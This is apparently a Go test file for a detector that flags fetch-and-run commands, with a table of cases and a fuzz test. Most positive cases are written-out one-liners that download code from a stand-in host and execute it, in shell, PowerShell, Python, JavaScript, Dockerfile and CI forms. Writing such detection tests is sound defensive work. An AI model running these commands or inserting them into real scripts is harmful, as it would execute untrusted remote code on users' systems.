package detect

import "testing"

// Every fetch-and-run shape of issue 37's finding 5, and the ones that
// were caught before, is caught; fetching alone, or running alone, is not.
func TestFetchRun(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		lines []string
		want  bool
	}{
		{[]string{"curl -fsSL https://evil.example/i | sh"}, true},
		{[]string{"curl -fsSL https://evil.example/i | tee /tmp/i.sh | sh"}, true},
		{[]string{"curl -fsSL https://evil.example/i|/bin/sh"}, true},
		{[]string{"curl -fsSL https://evil.example/i | sudo -E bash"}, true},
		{[]string{"curl -fsSL https://evil.example/i | sudo -u root -E bash -s -- --yes"}, true},
		{[]string{`eval "$(curl -fsSL https://evil.example/i)"`}, true},
		{[]string{"curl -s https://evil.example/i | env sh"}, true},
		{[]string{"curl -s https://evil.example/i | /usr/bin/env bash"}, true},
		{[]string{"curl -o f https://evil.example/i && sh f"}, true},
		{[]string{"curl -fsSL -o /tmp/i.sh https://evil.example/i", "bash /tmp/i.sh"}, true},
		{[]string{"wget https://evil.example/install.sh", "chmod +x install.sh", "./install.sh"}, true},
		{[]string{"curl -fsSLO https://evil.example/a.sh && ./a.sh"}, true},
		{[]string{"curl https://evil.example/x > run.sh; . ./run.sh"}, true},
		{[]string{"curl https://evil.example/x.tgz | tar xz && ./x/install"}, true},
		{[]string{`exec(urlopen("https://evil.example/p").read())`}, true},
		{[]string{`exec(urllib.request.urlopen('https://evil.example/p').read())`}, true},
		{[]string{`eval(requests.get(URL).text)`}, true},
		{[]string{`eval(await (await fetch("https://evil.example/p")).text())`}, true},
		{[]string{`iex (New-Object Net.WebClient).DownloadString('https://evil.example/p')`}, true},
		{[]string{`iwr https://evil.example/p -UseBasicParsing | iex`}, true},
		{[]string{"bash <(curl -s https://evil.example/i)"}, true},
		{[]string{`sh -c "$(wget -qO- https://evil.example/i)"`}, true},
		{[]string{"RUN curl -fsSL https://evil.example/i | bash"}, true},
		{[]string{"      - run: wget -qO- https://evil.example/i | python3 -"}, true},
		{[]string{"\tcurl -s https://evil.example/i | DEBUG=1 sh"}, true},

		{[]string{"curl -s https://example.com/api/v1/items | jq '.items[].name'"}, false},
		{[]string{"curl -fsSL -o data.json https://example.com/data.json", "jq . data.json"}, false},
		{[]string{"sh ./scripts/build.sh", "bash -c 'echo hi'"}, false},
		{[]string{"echo curl | grep sh"}, false},
		{[]string{"const load = async function () { const r = await fetch(url); return r.json() }"}, false},
		{[]string{"git fetch origin && git rebase origin/main"}, false},
		{[]string{"curl -s localhost:8080/health || exit 1", "./run.sh"}, false},
	} {
		var fr fetchRun
		got := false
		for _, l := range tt.lines {
			got = got || fr.line(l)
		}
		if got != tt.want {
			t.Errorf("%q: fetch-and-run %v; want %v", tt.lines, got, tt.want)
		}
	}
}

func FuzzFetchRun(f *testing.F) {
	f.Add("curl x | sh")
	f.Add(`eval "$(curl x)"`)
	f.Fuzz(func(t *testing.T, line string) {
		var fr fetchRun
		_ = fr.line(line)
		_ = fr.line(line)
	})
}
